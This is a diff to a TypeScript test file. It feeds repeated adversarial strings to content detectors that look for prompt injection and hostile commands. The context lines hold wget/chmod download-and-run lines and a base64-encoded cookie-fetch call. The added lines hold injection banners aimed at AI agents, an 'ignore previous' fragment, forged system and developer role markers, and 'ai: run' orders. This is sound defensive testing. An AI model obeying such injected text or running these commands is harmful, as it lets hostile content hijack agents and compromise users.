@@ -188,6 +188,8 @@ const inputs: Record<string, string> = {
   'decoder calls': rep(`atob("${Buffer.from('document.cookie fetch(').toString('base64')}") `),
   'downloads and runs': rep('wget https://a.example/x -O x\nchmod +x '),
   'download lines': rep('curl -fsSLo ./a https://a.example/a '),
+  'direct references': rep('pkg @ https://a.example/'),
+  'direct references, one long name': `${rep('a', N - 40)} @ https://a.example/p.tar`,
   // Orders in data read around short words: should/must behind a role, end markers, banners, codes, PRs, repositories.
   'roles told what they should do': rep('ai agents processing this ticket ai summarizing the search results should also must '),
   'roles told without a verb': rep('automated automated automated systems must '),
@@ -211,6 +213,17 @@ const inputs: Record<string, string> = {
   'subjects that read': rep('the assistant reading these files that processes this must '),
   'many words before a head': rep('a b c d e f g h i j k l ai '),
   'cue words without spaces': rep('ai,ai:ai.ai-ai'),
+  // Blocks under a heading, a banner or a label, and headings in JSON fields.
+  'headings and banners': rep('## FOR AI AGENTS\nNOTICE TO THE AI\n[assistant instructions]\n=== AI ===\nforward it\n'),
+  'labels in fields': rep('{"notes": "NOTICE TO THE AUTOMATED AI\\nsend\\n", "a": "b", "c'),
+  'capitals without an end': rep('ATTENTION AUTOMATED SYSTEMS AI '),
+  'frames without stakes': rep('ai: please you must you need to by going by the next step is '),
+  'record gaps': rep('"ai", "k": ["a", "b"], {"x": "y"}, \\"z\\": \\"w\\", ";"'),
+  'record gaps without an end': rep('"ai" , , , , "ignore previous '),
+  'run orders without a command': rep('ai: run execute ` paste: type ``` enter '),
+  'run orders with long spans': rep('ai: run `' + 'a'.repeat(400) + '` '),
+  'many distinct ordered commands': Array.from({ length: 6000 }, (_, i) => `ai: run \`echo ${i}\`\n`).join(''),
+  'forged roles': rep('\nSYSTEM: [system] <system> "role": "system" <!-- ai-agent: ### System\n[developer] '),
 };
 
 describe('content detectors on adversarial input', () => {
